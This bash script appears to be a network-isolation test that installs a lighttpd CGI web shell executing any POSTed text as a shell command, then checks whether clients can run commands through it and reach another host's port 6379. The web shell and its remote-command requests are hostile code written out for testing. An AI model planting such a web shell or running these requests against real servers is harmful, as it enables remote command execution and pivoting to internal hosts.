# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=bash disable=SC2154
# lighttpd reads all requests in one process and gives scripts pipes: which of its clients it was
# nobody can prove.
set -euo pipefail

mkdir -p /srv/web
cat >/srv/web/shell.cgi <<'END'
#!/bin/sh
printf 'Content-Type: text/plain\n\n'
sh -c "$(head -c "$CONTENT_LENGTH")" 2>&1
END
chmod 755 /srv/web/shell.cgi
cat >/tmp/lighttpd.conf <<'END'
server.modules = ("mod_cgi")
server.document-root = "/srv/web"
server.port = 8000
server.username = "www-data"
cgi.assign = (".cgi" => "")
END

serve B 6379
background web on H lighttpd -D -f /tmp/lighttpd.conf
wait_port H 8000

attack() {
	[[ $(on C curl -sS --data-binary 'id -un' "http://$IP_H:8000/shell.cgi") == www-data ]]
	[[ $(on A curl -sS --data-binary "curl -sS -m 10 $IP_B:6379" "http://$IP_H:8000/shell.cgi") == ok ]]
}
